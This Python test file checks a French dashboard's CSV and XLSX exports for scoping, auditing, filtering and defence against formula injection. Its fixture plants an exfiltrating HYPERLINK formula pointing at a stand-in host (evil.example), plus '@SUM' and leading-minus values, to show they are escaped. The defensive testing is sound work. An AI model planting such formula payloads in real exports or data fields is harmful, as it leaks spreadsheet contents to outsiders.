"""Dashboard exports: CSV and XLSX, scoped, formula-injection safe, each one audited."""
from types import SimpleNamespace
import csv
import io
from datetime import date

import openpyxl
import pytest
import sqlalchemy as sa

from stages.auth.models import AuditEntry, Role
from stages.enrollment.models import EnrollmentStatus, MeasureStatus
from stages.extensions import db
from stages.reports.views import dashboard as views
from stages.timeutil import today_local
from tests.helpers import login, search

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


@pytest.fixture
def hostile_names(make):
    w = SimpleNamespace()
    w.assoc = make.organization()
    w.parquet_a, w.parquet_b = make.authority(), make.authority()
    w.liaison_a = make.user(Role.LIAISON, [w.parquet_a])
    w.liaison_b = make.user(Role.LIAISON, [w.parquet_b])
    make.measure(make.participant("ALPHA", "Anne"), w.parquet_a, case_reference="A-001",
                 decision_date=date(2025, 11, 3), deadline=date(2026, 5, 3))
    make.measure(make.participant(EVIL, "@SUM(1+1)"), w.parquet_a, case_reference="-A-002")
    make.measure(make.participant("BRAVO", "Bernard"), w.parquet_b, case_reference="B-001")
    make.measure(make.participant("BRAVISSIMO", "Lucie"), w.parquet_b, case_reference="B-002",
                 status=MeasureStatus.SUMMONED)
    db.session.commit()
    return w


def _exports():
    return db.session.scalars(
        sa.select(AuditEntry).where(AuditEntry.action == "export.downloaded").order_by(AuditEntry.id)
    ).all()


def _csv_rows(response):
    data = response.get_data()
    assert data.startswith("\ufeff".encode()), "UTF-8 BOM for French Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_csv_lists_only_the_liaisons_authority(client, hostile_names):
    login(client, hostile_names.liaison_a)
    response = client.get("/tableau-de-bord/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="mesures-{today_local().isoformat()}.csv"'
    )
    assert response.headers["Cache-Control"] == "no-store"
    rows = _csv_rows(response)
    assert rows[0][:5] == ["Nom", "Prénoms", "Cadre", "Autorité prescriptrice", "N° de parquet"]
    assert len(rows) == 3
    text = response.get_data(as_text=True)
    assert "BRAVO" not in text and "BRAVISSIMO" not in text and "B-00" not in text
    alpha = next(r for r in rows if r[0] == "ALPHA")
    assert alpha[4] == "A-001" and alpha[5] == "03/11/2025" and alpha[6] == "03/05/2026"


def test_csv_cells_cannot_become_formulas(client, hostile_names):
    login(client, hostile_names.liaison_a)
    rows = _csv_rows(client.get("/tableau-de-bord/export.csv"))
    evil = next(r for r in rows if "HYPERLINK" in r[0])
    assert evil[0] == "'" + EVIL
    assert evil[1] == "'@SUM(1+1)"
    assert evil[4] == "'-A-002"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell


def test_xlsx_opens_escaped_and_scoped(client, hostile_names):
    login(client, hostile_names.liaison_a)
    response = client.get("/tableau-de-bord/export.xlsx")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].endswith(f'mesures-{today_local().isoformat()}.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Nom" and len(rows) == 3
    names = {row[0] for row in rows[1:]}
    assert names == {"ALPHA", EVIL}  # a text cell, shown as typed: no apostrophe in sight
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
            if cell.value == EVIL:
                assert cell.data_type == "s" and cell.quotePrefix
    alpha = next(r for r in rows if r[0] == "ALPHA")
    assert alpha[5].date() == date(2025, 11, 3)
    flat = repr(rows)
    assert "BRAVO" not in flat and "B-001" not in flat


def test_every_export_writes_one_audit_entry_without_personal_data(client, hostile_names):
    login(client, hostile_names.liaison_a)
    searched = search(client, "/tableau-de-bord", "alpha")
    client.get(searched.replace("/tableau-de-bord?", "/tableau-de-bord/export.csv?"))
    client.get("/tableau-de-bord/export.xlsx")
    entries = _exports()
    assert [e.details for e in entries] == [
        "tableau de bord, csv, 1 lignes", "tableau de bord, xlsx, 2 lignes",
    ]
    assert all(e.user_id == hostile_names.liaison_a.id for e in entries)


def test_exports_keep_the_filters(client, hostile_names):
    login(client, hostile_names.liaison_b)
    rows = _csv_rows(client.get("/tableau-de-bord/export.csv?statut=convoque"))
    assert [r[0] for r in rows[1:]] == ["BRAVISSIMO"]


def test_guessing_another_authority_in_an_export_is_403_and_not_audited(client, hostile_names):
    login(client, hostile_names.liaison_a)
    assert client.get(f"/tableau-de-bord/export.csv?autorite={hostile_names.parquet_b.id}").status_code == 403
    assert client.get(f"/tableau-de-bord/export.xlsx?autorite={hostile_names.parquet_b.id}").status_code == 403
    assert client.get("/tableau-de-bord/export.pdf").status_code == 404
    assert _exports() == []


def test_xlsx_over_the_cap_asks_for_csv(client, hostile_names, monkeypatch):
    monkeypatch.setattr(views, "XLSX_MAX_ROWS", 1)
    login(client, hostile_names.liaison_a)
    response = client.get("/tableau-de-bord/export.xlsx?cadre=composition_penale")
    assert response.status_code == 302
    assert "/tableau-de-bord?cadre=composition_penale" in response.headers["Location"]
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "limité à 1 lignes" in page and "export CSV" in page
    assert _exports() == []


def test_large_csv_streams_every_row(client, make, hostile_names):
    make.bulk_measures(1_234, hostile_names.parquet_a)
    db.session.commit()
    login(client, hostile_names.liaison_a)
    rows = _csv_rows(client.get("/tableau-de-bord/export.csv"))
    assert len(rows) == 1 + 2 + 1_234
    assert len({r[4] for r in rows[1:]}) == 1_236
    assert _exports()[0].details == "tableau de bord, csv, 1236 lignes"


def test_a_measure_is_exported_once_with_its_latest_seat(client, make, hostile_names):
    measure = make.measure(make.participant("DOUBLE", "Jean"), hostile_names.parquet_a)
    # Moved from one session to another: one line, with the session it now holds a seat in.
    make.enrollment(measure, make.course(day=date(2026, 5, 4)), status=EnrollmentStatus.RESCHEDULED)
    make.enrollment(measure, make.course(day=date(2026, 6, 8)))
    db.session.commit()
    login(client, hostile_names.liaison_a)
    rows = [r for r in _csv_rows(client.get("/tableau-de-bord/export.csv")) if r[0] == "DOUBLE"]
    assert len(rows) == 1 and rows[0][9] == "08/06/2026"
    assert _exports()[0].details == "tableau de bord, csv, 3 lignes"
